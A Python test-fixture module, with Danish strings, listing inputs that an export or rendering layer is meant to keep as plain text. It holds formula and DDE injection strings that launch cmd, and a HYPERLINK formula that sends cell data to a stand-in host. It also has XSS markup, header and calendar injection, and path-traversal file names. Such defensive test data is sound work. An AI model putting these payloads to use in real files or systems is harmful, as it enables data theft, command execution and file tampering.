"""What somebody could type that is to stay text: one table, tried on every way out.

Each is named by what it would become where text is taken for something else.
"""

from collections.abc import Mapping

FORMULAS: Mapping[str, str] = {
    "formula": "=1+1",
    "link_formula": '=HYPERLINK("http://ond.example/?x="&A1,"Klik her")',
    "fetching": '=WEBSERVICE("http://ond.example/")',
    "other_workbook": "='\\\\srv\\[ond.xlsx]Ark'!A1",
    "array": "{=1+1}",
    "dde": "=cmd|' /C calc'!A0",
    "dde_plus": "+cmd|' /C calc'!A0",
    "dde_call": '=DDE("cmd";"/C calc";"ond")',
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "line_end": "\r=1+1",
    "line_feed": "\n=1+1",
    "space": " =1+1",
    "apostrophe": "'=1+1",
    "full_width": "\uff1d1+1",
    "full_width_signs": "\uff0b1+1 \uff0d1 \uff20SUM(1)",
    "semicolons": "a;=1+1;\tb,=1+1",
    "quotes": '",=1+1,"',
}
"""What a spreadsheet would compute; a CSV file too, where it begins a field."""

LINKS: Mapping[str, str] = {
    "http": "http://ond.example",
    "https": "https://ond.example/?a=1&b=<2>",
    "mailto": "mailto:ond@ond.example?subject=x",
    "external": "external:\\\\srv\\x.xlsx",
    "internal": "internal:'Stamdata'!A1",
    "file": "file:///etc/passwd",
    "ftp": "ftp://ond.example/x",
    "share": "\\\\srv\\del\\x.xlsx",
    "javascript": "javascript:document.title='ramt'",
}
"""What a spreadsheet or a page would make a link of."""

NUMBERS: Mapping[str, str] = {
    "day": "1-2",
    "date": "31-12-2026",
    "zeros": "007",
    "exponent": "1E5",
    "thousands": "1.234,50",
    "percent": "10 %",
    "clock": "12:30",
    "fraction": "1/2",
    "truth": "SAND",
    "error": "#REF!",
}
"""What a spreadsheet would take for a number, a day, a truth value or an error."""

MARKUP: Mapping[str, str] = {
    "script": "<script>document.title = 'ramt'</script>",
    "attribute": '"><img src=x onerror="document.title=\'ramt\'">',
    "style": "</style></title></textarea><b onclick=1>fed</b><!--",
    "xml": "<b>&amp;</b>]]><t xml:space='preserve'>",
    "runs": "<r><rPr><b/></rPr><t>fed</t></r>",
    "broken_runs": "<r></si></sst><c>&ond;</r>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} %s {0}",
    "escape": "_x000D_ _x0041_ _x003D_1+1",
    "rich": "[red]rød[/red] [link=http://ond.example]x[/link] [/]",
    "ansi": "\x1b[31mrød\x1b[0m\x1b]8;;http://ond.example\x1b\\x\x1b]8;;\x1b\\\x9b2J",
    "footer": '&L&"Arial"&P &F &Z',
}
"""What a page, a part of a workbook, a template, a terminal or a footer would obey."""

LINES: Mapping[str, str] = {
    "header": "Emne\r\nBcc: ond@ond.example\r\n\r\n<b>x</b>",
    "event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd",
    "calendar": "BEGIN:VCALENDAR\nMETHOD:REQUEST\nEND:VCALENDAR",
    "other_lines": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "marks": 'komma, semikolon; bagstreg\\ og \\n; "citat":kolon',
}
"""What would begin a line of its own in a letter, a calendar or a log."""

LETTERS: Mapping[str, str] = {
    "nul": "a\x00=1+1",
    "controls": "\x07\x08\x7f",
    "surrogate": "a\ud800b",
    "no_character": "a\ufffe\uffffb",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069",
    "zero_width": "\u200b=1+1\ufeff",
    "emoji": "👩\u200d👩\u200d👧 " * 10,
    "long": "æ" * 40_000,
}
"""What a file cannot hold, or what the eye sees otherwise than it is."""

NAMES: Mapping[str, str] = {
    "separators": "../../etc/passwd",
    "windows_path": "..\\..\\C:\\Windows\\x",
    "stream": "x.txt:skjult",
    "reserved": "CON",
    "reserved_ending": "nul.txt",
    "dots": "...",
    "trailing": "navn. . ",
    "wild": 'a*b?c"d<e>f|g',
    "very_long": "navn " * 60,
    "option": "-rf",
    "home": "~/x",
}
"""What would be another file, or none, if it became the name of one."""

PAYLOADS: Mapping[str, str] = {
    **FORMULAS,
    **LINKS,
    **NUMBERS,
    **MARKUP,
    **LINES,
    **LETTERS,
    **NAMES,
}

IDS, TEXTS = list(PAYLOADS), list(PAYLOADS.values())

REVIVED = frozenset({*FORMULAS, "template", "zero_width", "option"}) - {"semicolons", "quotes"}
"""What a spreadsheet computes, or takes a sign from, when somebody edits the cell."""
